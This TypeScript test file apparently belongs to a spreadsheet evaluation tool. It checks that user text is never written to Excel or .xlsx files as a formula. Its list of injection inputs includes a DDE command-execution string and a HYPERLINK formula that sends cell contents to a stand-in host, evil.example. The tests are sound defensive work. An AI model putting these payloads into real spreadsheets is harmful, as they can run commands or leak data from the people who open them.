// User text is never written as a formula: strings that look like formulas, DDE calls or numbers (leading
// =, +, -, @, tabs and CR, =HYPERLINK(…), =cmd|' /C calc'!A0) in every text field of an evaluation, written
// by every writer — the ExcelPort into Excel (the fake: Office.js `values` parse text like typed input), the
// .xlsx writer behind the file mode and the CLI (the saved XML: no <f> holds user text) — come back as the
// same text, and every formula cell holds only BAGALAU's own formulas.

import * as fc from "fast-check";
import JSZip from "jszip";
import { parseEvaluation, scoreEvaluation, type Evaluation } from "../../src/core";
import { XlsxWorkbookPort } from "../../src/app/xlsx-workbook-port";
import { filledSheets } from "../../src/workbook/workbook-services";
import { harness } from "./excel-harness";

/** Texts that a spreadsheet would take for a formula, a number, a date or a DDE call if written as input. */
const DANGEROUS = [
  "=",
  "+",
  "-",
  "@",
  "\t=",
  "\r=",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  "=1+1",
  "+7 701",
  "-2",
  "@SUM(A1)",
  "'=",
  '="x"',
  "=BAGALAU.TOTAL(A1)",
];

/** A user text: a dangerous opening, arbitrary text, and a tag saying which field it is (to find it in the output). */
const userText = (tag: string) =>
  fc
    .tuple(fc.constantFrom(...DANGEROUS), fc.string({ maxLength: 12 }))
    .map(([start, rest]) => `${start}${rest.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/g, "")} USR${tag}`);

const texts = fc.record({
  body: userText("body"),
  goal: userText("goal"),
  task: userText("task"),
  indicator: userText("ind"),
  unit: userText("unit"),
  source: userText("src"),
  responsible: userText("resp"),
  result: userText("res"),
  sphere: userText("sph"),
  risk: userText("risk"),
  measures: userText("meas"),
});

type Texts = {
  [K in "body" | "goal" | "task" | "indicator" | "unit" | "source" | "responsible" | "result" | "sphere" | "risk" | "measures"]: string;
};

function evaluationWith(t: Texts): Evaluation {
  return parseEvaluation({
    format: "bagalau/evaluation@1",
    body: { name: t.body, kind: "central", period: "2023" },
    quality: [{ code: "1", name: t.sphere, q1: 1, q2: 0.5 }],
    risks: [{ name: t.risk, r: 1, measures: t.measures }],
    goals: [
      {
        code: "1",
        name: t.goal,
        indicators: [
          {
            code: "1.1",
            name: t.indicator,
            unit: t.unit,
            source: t.source,
            responsible: t.responsible,
            better: "higher",
            data: "official",
            base: 50,
            plan: 100,
            fact: 90,
          },
        ],
        tasks: [{ code: "1.1", name: t.task, results: [{ name: t.result, unit: t.unit, plan: 10, fact: 9 }] }],
      },
    ],
    penalties: { deadline: "2024-02-01", submitted: "2024-01-20", missingElements: [], unreliableFacts: [] },
  }).evaluation;
}

const RUNS = { numRuns: 20 };

jest.setTimeout(60_000);

test("ExcelPort: each user text arrives as that text (text marker or text format), never as a formula", async () => {
  await fc.assert(
    fc.asyncProperty(texts, async (t) => {
      const evaluation = evaluationWith(t);
      const h = harness();
      await h.port.writeSheets(filledSheets(evaluation, scoreEvaluation(evaluation, []), "en"), []);
      const cells = h.book.sheets.flatMap((sheet) => Array.from(sheet.cells.values()));
      // No formula holds user text.
      expect(cells.filter((cell) => cell.formula?.includes("USR"))).toEqual([]);
      // Every user text is in some cell as exactly that text (a leading apostrophe is Excel's marker, not the text).
      const values = new Set(cells.map((cell) => cell.value).filter((v): v is string => typeof v === "string"));
      for (const text of Object.values(t)) expect(values.has(text.trim()) || values.has(text)).toBe(true);
    }),
    RUNS,
  );
});

test("the .xlsx writer (file mode and CLI): no <f> element holds user text; user text is a string cell", async () => {
  await fc.assert(
    fc.asyncProperty(texts, async (t) => {
      const evaluation = evaluationWith(t);
      const port = XlsxWorkbookPort.empty();
      await port.writeSheets(filledSheets(evaluation, scoreEvaluation(evaluation, []), "en"), []);
      const zip = await JSZip.loadAsync(await port.toBytes());
      const sheets = Object.keys(zip.files).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
      expect(sheets.length).toBeGreaterThan(3);
      for (const name of sheets) {
        const xml = await zip.file(name)!.async("string");
        const formulas = [...xml.matchAll(/<f\b[^>]*>([\s\S]*?)<\/f>/g)].map((m) => m[1]);
        expect(formulas.filter((f) => f.includes("USR"))).toEqual([]);
      }
      // And read back, every text is a plain string value (not a formula object).
      const reopened = await XlsxWorkbookPort.fromBytes(await port.toBytes());
      const values = new Set<string>();
      reopened.workbook.eachSheet((ws) =>
        ws.eachRow((row) =>
          row.eachCell((cell) => {
            if (typeof cell.value === "string") values.add(cell.value);
            if (cell.formula) expect(cell.formula).not.toContain("USR");
          }),
        ),
      );
      // The names BAGALAU writes as they are typed come back exactly (free texts such as the risk measures may be
      // normalized by the reader; none of them is in a formula, as checked above).
      // (A CR comes back as LF: XML turns a bare CR in text into a line feed, and ExcelJS writes it bare.)
      const saved = (text: string) => text.replace(/\r\n?/g, "\n");
      for (const text of [t.body, t.goal, t.task, t.indicator, t.sphere, t.risk])
        expect(values.has(saved(text).trim()) || values.has(saved(text))).toBe(true);
    }),
    RUNS,
  );
});

test("ExcelPort.writeValues (the profile cells) writes text with the marker", async () => {
  const h = harness();
  h.book.setRows("S", [["x"]]);
  await h.port.writeValues([
    { ref: { sheet: "S", row: 1, column: 1 }, value: "=cmd|' /C calc'!A0" },
    { ref: { sheet: "S", row: 1, column: 2 }, value: "@SUM(A1)" },
  ]);
  expect(h.book.sheet("S")!.peek(1, 1)).toMatchObject({ value: "=cmd|' /C calc'!A0", formula: undefined });
  expect(h.book.sheet("S")!.peek(1, 2)).toMatchObject({ value: "@SUM(A1)", formula: undefined });
});
